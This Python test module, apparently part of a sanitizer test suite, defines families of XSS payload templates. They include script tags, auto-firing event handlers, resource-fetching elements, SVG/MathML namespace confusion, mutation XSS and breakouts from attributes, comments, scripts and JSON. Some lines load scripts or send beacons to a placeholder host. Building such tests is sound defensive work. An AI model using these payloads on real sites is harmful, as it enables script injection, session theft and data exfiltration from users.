"""Attack texts that are mark-up: scripts, events, elements that fetch, namespaces, ends of elements."""

from __future__ import annotations

from collections.abc import Iterator

from tests.text_attacks.attack import Fires, Road

Family = tuple[str, Road, Fires, list[str]]

SCRIPTS = [
    *(
        "<script>§</script>",
        "<SCRIPT>§</SCRIPT>",
        "<sCrIpT>§</ScRiPt>",
        "<script >§</script >",
        "<script\n>§</script\n>",
    ),
    *(
        "<script\t>§</script\t>",
        "<script/>§</script>",
        "<script/x>§</script>",
        "<script x=y>§</script>",
        "<<script>§</script>",
    ),
    *(
        "<script>§//",
        "<script>§</script foo>",
        "<script>§<!--</script>",
        "<script><!--\n§\n//--></script>",
        "</p><script>§</script>",
    ),
    *("<p><script>§</script></p>", "<b><i><script>§</script>", "<script type=text/javascript>§</script>"),
    *('<script type="module">§</script>', '<script type="">§</script>', "<script language=javascript>§</script>"),
    *("<script>setTimeout('§')</script>", "<script>eval('§')</script>", "<script>Function('§')()</script>"),
    *("<script>window['vk'+'Attack'](0);§</script>", "<script defer>§</script>", "<script async>§</script>"),
    *(
        "</title><script>§</script>",
        "</noscript><script>§</script>",
        "</template><script>§</script>",
        "-->\n<script>§</script>",
    ),
    *(
        "<script charset=utf-8>§</script>",
        "<scr<script>ipt>§</scr</script>ipt>",
        "<scr\tipt>§</scr\tipt>",
        "< script>§</ script>",
    ),
    *("<%<script>§</script>", "<!DOCTYPE html><script>§</script>", "<html><head><script>§</script></head></html>"),
    *("&lt;script&gt;§&lt;/script&gt;", "&#60;script&#62;§&#60;/script&#62;", "&#x3c;script&#x3e;§&#x3c;/script&#x3e;"),
    *("\\<script>§\\</script>", "\\x3cscript\\x3e§\\x3c/script\\x3e", "\\u003cscript\\u003e§\\u003c/script\\u003e"),
    *("%3Cscript%3E§%3C/script%3E", "+ADw-script+AD4-§+ADw-/script+AD4-", "&lt;&lt;script>§&lt;/script>"),
]
FOREIGN_SCRIPTS = [
    *("<script src=//¤/a.js></script>", '<script src="https://¤/a.js"></script>', "<script src='http://¤/a'></script>"),
    *(
        "<SCRIPT SRC=//¤/b></SCRIPT>",
        '<script type=module src="//¤/m.js"></script>',
        "<script>import('https://¤/m.js')</script>",
    ),
    *("<script/src=//¤/a>", '<script src="//¤/a.js" integrity="x"></script>', "<script>fetch('//¤/f')</script>"),
    *("<script>new Image().src='//¤/i'</script>", "<script>navigator.sendBeacon('//¤/b')</script>"),
    "<svg><script href=//¤/a.js></script></svg>",
]
AUTO_EVENTS = [
    *(
        "<img src=x onerror=§>",
        "<IMG SRC=x ONERROR=§>",
        "<img src=x onerror='§'>",
        '<img src=x onerror="§">',
        "<img/src=x/onerror=§>",
    ),
    *(
        "<img src=x onerror =§>",
        "<img src=x onerror= §>",
        "<img\nsrc=x\nonerror=§>",
        "<img\tsrc=x\tonerror=§>",
        "<img src=x:x onerror=§",
    ),
    *(
        "<img src onerror=§>",
        "<img src='' onerror=§>",
        '<img src="x" "onerror=§>',
        "<img src=x alt=`><img src=x onerror=§>`>",
    ),
    *(
        "<image src=x onerror=§>",
        "<img src=x onerror=&#118;&#107;Attack;§>",
        '<img src=x onerror="&#x0a;§">',
        "<img src=1 onerror=§//",
    ),
    *(
        "<svg onload=§>",
        "<svg/onload=§>",
        "<SVG ONLOAD=§>",
        "<svg\nonload=§>",
        "<svg onload='§'/>",
        "<svg><svg onload=§>",
    ),
    *(
        "<body onload=§>",
        "<BODY ONLOAD=§>",
        "<body onpageshow=§>",
        "<body onresize=§>",
        "<html onmouseover=§>",
        "<frameset onload=§>",
    ),
    *("<video src=x onerror=§></video>", "<video><source onerror=§></video>", "<audio src=x onerror=§></audio>"),
    *(
        "<video onloadstart=§ src=x>",
        "<audio onloadstart=§ src=x>",
        "<input autofocus onfocus=§>",
        "<input type=image src=x onerror=§>",
    ),
    *("<select autofocus onfocus=§>", "<textarea autofocus onfocus=§>", "<button autofocus onfocus=§>x</button>"),
    *(
        "<details open ontoggle=§>x</details>",
        "<details ontoggle=§ open>",
        "<iframe onload=§></iframe>",
        "<iframe src=x onload=§>",
    ),
    *("<object data=x onerror=§></object>", "<embed src=x onload=§>", "<link rel=stylesheet href=x onerror=§>"),
    *("<link rel=preload as=image href=x onerror=§>", "<style onload=§></style>", "<script src=x onerror=§></script>"),
    *(
        "<marquee onstart=§>x</marquee>",
        "<track onerror=§>",
        "<picture><img src=x onerror=§></picture>",
        "<isindex onfocus=§ autofocus>",
    ),
    *(
        "<svg><animate onbegin=§ attributeName=x dur=1s>",
        "<svg><set onbegin=§ attributeName=x>",
        "<math onfocus=§ tabindex=1 autofocus>",
    ),
    *(
        "<p tabindex=1 autofocus onfocus=§>x</p>",
        "<xss autofocus tabindex=1 onfocus=§>",
        "<a autofocus tabindex=1 onfocus=§ href=#>x</a>",
    ),
    *(
        "<x onanimationstart=§ style=animation-name:x>",
        "<dialog open onclose=§>x</dialog>",
        "<video autoplay onplay=§><source src=x>",
    ),
    *(
        "<img src=x onerror=§ width=1>text",
        "a<img src=x onerror=§>b",
        "**<img src=x onerror=§>**",
        "> <img src=x onerror=§>",
    ),
    *(
        "- <img src=x onerror=§>",
        "# <img src=x onerror=§>",
        "1. <svg onload=§>",
        "    <svg onload=§>",
        "`<svg onload=§>`",
    ),
]
MOUSE = (
    *("onclick", "ondblclick", "onmousedown", "onmouseup", "onmouseover", "onmousemove", "onmouseout", "onmouseenter"),
    *("onmouseleave", "onkeydown", "onkeypress", "onkeyup", "onfocus", "onblur", "onfocusin", "onfocusout", "onchange"),
    *(
        "oninput",
        "oninvalid",
        "onsubmit",
        "onreset",
        "onselect",
        "oncopy",
        "oncut",
        "onpaste",
        "oncontextmenu",
        "onwheel",
    ),
    *(
        "onpointerdown",
        "onpointerover",
        "onpointerenter",
        "ontouchstart",
        "ondrag",
        "ondrop",
        "onscroll",
        "onbeforeinput",
    ),
    *(
        "onauxclick",
        "ontransitionend",
        "onanimationend",
        "onbeforetoggle",
        "ontoggle",
        "oncancel",
        "onclose",
        "onsearch",
    ),
)
FETCHING = [
    *(
        "<img src=//¤/i>",
        '<img src="https://¤/i.png">',
        "<img src='http://¤/i'>",
        "<img srcset='//¤/i 1x'>",
        "<img src=x srcset='//¤/2 2x, //¤/1 1x'>",
    ),
    *(
        "<picture><source srcset=//¤/p><img></picture>",
        "<video src=//¤/v></video>",
        "<video poster=//¤/p></video>",
        "<audio src=//¤/a></audio>",
    ),
    *(
        "<video><source src=//¤/v></video>",
        "<video><track default src=//¤/t></video>",
        "<input type=image src=//¤/i>",
        "<image src=//¤/i>",
    ),
    *(
        "<iframe src=//¤/f></iframe>",
        "<IFRAME SRC=https://¤/f>",
        "<iframe srcdoc='&lt;img src=//¤/s&gt;'>",
        "<embed src=//¤/e>",
    ),
    *(
        "<object data=//¤/o></object>",
        "<object><param name=src value=//¤/o></object>",
        "<frameset><frame src=//¤/f></frameset>",
    ),
    *(
        "<link rel=stylesheet href=//¤/c>",
        "<link rel=preload as=image href=//¤/l>",
        "<link rel=prefetch href=//¤/l>",
        "<link rel=icon href=//¤/f>",
    ),
    *(
        "<link rel=modulepreload href=//¤/m>",
        "<link rel=dns-prefetch href=//¤>",
        "<link rel=preconnect href=//¤>",
        "<link rel=manifest href=//¤/m>",
    ),
    *(
        "<meta http-equiv=refresh content='0;url=//¤/r'>",
        "<META HTTP-EQUIV=Refresh CONTENT='0; URL=https://¤/r'>",
        "<base href=//¤/><img src=i>",
    ),
    *(
        "<table background=//¤/t><td>x</table>",
        "<body background=//¤/b>",
        "<td background=//¤/t>x",
        "<svg><image href=//¤/i /></svg>",
    ),
    *("<svg><image xlink:href=//¤/i /></svg>", "<svg><use href=//¤/u#x /></svg>", "<svg><feImage href=//¤/f /></svg>"),
    *(
        "<style>@import '//¤/c';</style>",
        "<style>@import url(//¤/c);</style>",
        "<style>body{background:url(//¤/b)}</style>",
    ),
    *(
        "<style>@font-face{font-family:x;src:url(//¤/f)}body{font-family:x}</style>a",
        "<p style=background:url(//¤/s)>x</p>",
    ),
    *(
        "<p style='background-image:url(https://¤/s)'>x</p>",
        "<div style='list-style:url(//¤/l);display:list-item'>x</div>",
    ),
    *(
        "<a href=# ping=//¤/p>x</a>",
        "<form action=//¤/f><button>x</button></form>",
        "<button formaction=//¤/f form=x>x</button>",
    ),
    *(
        "<portal src=//¤/p></portal>",
        "<bgsound src=//¤/b>",
        "<applet code=//¤/a></applet>",
        "<layer src=//¤/l></layer>",
    ),
]
NAMESPACES = [
    *(
        "<svg><script>§</script></svg>",
        "<svg><script>&#118;&#107;Attack;§</script></svg>",
        "<svg><style><img src=x onerror=§></style></svg>",
    ),
    *(
        "<svg><title><img src=x onerror=§></title></svg>",
        "<svg><desc><img src=x onerror=§></desc></svg>",
        "<svg><foreignObject><img src=x onerror=§></foreignObject></svg>",
    ),
    *(
        "<svg><a href=javascript:§><text y=9>x</text></a></svg>",
        "<svg><a xlink:href=javascript:§><text y=9>x</text></a></svg>",
    ),
    *(
        "<svg><animate xlink:href=#a attributeName=href values=javascript:§ /><a id=a><text y=9>x</text></a></svg>",
        "<svg><set attributeName=onmouseover to=§ />",
    ),
    *(
        "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=§ />#x'/></svg>",
        '<svg></p><style><a id="</style><img src=x onerror=§>">',
    ),
    *(
        "<math><mtext></mtext><img src=x onerror=§></math>",
        "<math><annotation-xml encoding=text/html><img src=x onerror=§></annotation-xml></math>",
    ),
    *(
        "<math href=javascript:§>x</math>",
        "<math><maction actiontype=statusline xlink:href=javascript:§>x</maction></math>",
        "<math><mi//xlink:href=javascript:§>x",
    ),
    *(
        "<math><style><img src=x onerror=§></style></math>",
        "<svg><![CDATA[<img src=x onerror=§>]]></svg>",
        "<svg><![CDATA[><img src=x onerror=§>]]></svg>",
    ),
]
MUTATIONS = [
    *('<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=§&gt;">',),
    *("<math><mtext><table><mglyph><style><math><!--</style><img src=x onerror=§>",),
    *("<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=§>",),
    *("<svg><style><!--</style><img src=x onerror=§>-->", '<noscript><p title="</noscript><img src=x onerror=§>">'),
    *(
        '<svg></p><style><g title="</style><img src=x onerror=§>">',
        "<math></p><style><!--</style><img src=x onerror=§>--></style>",
    ),
    *(
        "<table><caption><svg><title><table><img src=x onerror=§>",
        "<select><template><img src=x onerror=§></template></select>",
    ),
    *(
        "<template><s><template><s><img src=x onerror=§></s></template>",
        '<xmp><p title="</xmp><img src=x onerror=§>"></xmp>',
    ),
    *('<noembed><p title="</noembed><img src=x onerror=§>">', '<noframes><p title="</noframes><img src=x onerror=§>">'),
    *(
        '<iframe><p title="</iframe><img src=x onerror=§>">',
        "<plaintext><img src=x onerror=§>",
        '<textarea><p title="</textarea><img src=x onerror=§>">',
    ),
    *(
        "<a><table><a><img src=x onerror=§>",
        "<p><svg><p><style><img src=x onerror=§></style>",
        "<listing>&lt;img src=x onerror=§&gt;</listing>",
    ),
    *(
        "<div><![CDATA[<img src=x onerror=§>]]></div>",
        "<?xml <img src=x onerror=§> ?>",
        "<![if <img src=x onerror=§>]>",
    ),
]
RAW_ENDS = [
    (
        "end of a title",
        Road.TITLE,
        [
            "</title><script>§</script>",
            "</TITLE><svg onload=§>",
            "</title\n><img src=x onerror=§>",
            "</title/><img src=x onerror=§>",
        ],
    ),
    (
        "end of a textarea",
        Road.TEXTAREA,
        ["</textarea><script>§</script>", "</TEXTAREA ><img src=x onerror=§>", "</textarea/x><svg onload=§>"],
    ),
    (
        "end of a comment",
        Road.COMMENT,
        [
            "--><script>§</script>",
            "--!><img src=x onerror=§>",
            "><img src=x onerror=§>",
            "-><svg onload=§>",
            "--><svg onload=§><!--",
            "<!--><img src=x onerror=§>-->",
            "<!---><img src=x onerror=§>-->",
        ],
    ),
    (
        "end of a script",
        Road.SCRIPT,
        [
            "</script><script>§</script>",
            "</SCRIPT><svg onload=§>",
            "</script ><img src=x onerror=§>",
            "</script/><img src=x onerror=§>",
            "</script\n><svg onload=§>",
            "<!--<script></script><script>§//--></script>",
        ],
    ),
    (
        "end of a string",
        Road.SCRIPT,
        [
            '"; §; //',
            '"+§+"',
            '"-§-"',
            '\\"; §; //',
            '";\n§;"',
            '"]; §; //',
            '"}; §; //',
            '"; § /*',
            '\\"};§//',
            '",§,"',
        ],
    ),
    (
        "end of a block of JSON",
        Road.JSON,
        [
            "</script><script>§</script>",
            "</script><img src=x onerror=§>",
            "</ScRiPt><svg onload=§>",
            '"}</script><svg onload=§>',
            "<!--<script>",
            "]]></script><svg onload=§>",
        ],
    ),
]


def quoted_breaks() -> Iterator[Family]:
    """Out of an attribute, in every way of quoting it."""
    tails = (
        *(
            " onmouseover=§ x=",
            " onclick=§ ",
            " autofocus onfocus=§ ",
            "><script>§</script>",
            "><img src=x onerror=§>",
            "/><svg onload=§>",
        ),
        *(" style=x onfocus=§ tabindex=1 ", "\nonclick=§\n", "\tonpointerenter=§\t", "onclick=§ ", "/onclick=§/"),
    )
    for name, road, quote in (("double", Road.DOUBLE, '"'), ("single", Road.SINGLE, "'"), ("bare", Road.BARE, "x")):
        yield f"out of a {name} attribute", road, Fires.SCRIPT, [quote + tail for tail in tails]
    yield (
        "out of a backtick attribute",
        Road.BARE,
        Fires.SCRIPT,
        ["`" + tail.strip() for tail in tails if ">" not in tail],
    )


def markup_families() -> Iterator[Family]:
    """All families of this module."""
    yield "script element", Road.HTML, Fires.SCRIPT, SCRIPTS
    yield "script of another host", Road.HTML, Fires.REQUEST, FOREIGN_SCRIPTS
    yield "event by itself", Road.HTML, Fires.SCRIPT, AUTO_EVENTS
    yield "event of a visitor", Road.HTML, Fires.SCRIPT, [f"<a {name}=§>x</a>" for name in MOUSE]
    yield (
        "event of a form",
        Road.HTML,
        Fires.SCRIPT,
        [f'<form {name}="§"><input {name}=§></form>' for name in MOUSE[12:24]],
    )
    yield "element that fetches", Road.HTML, Fires.REQUEST, FETCHING
    yield "namespace confusion", Road.HTML, Fires.SCRIPT, NAMESPACES
    yield "mutation", Road.TWICE, Fires.SCRIPT, MUTATIONS
    for name, road, texts in RAW_ENDS:
        yield name, road, Fires.SCRIPT, texts
    yield from quoted_breaks()
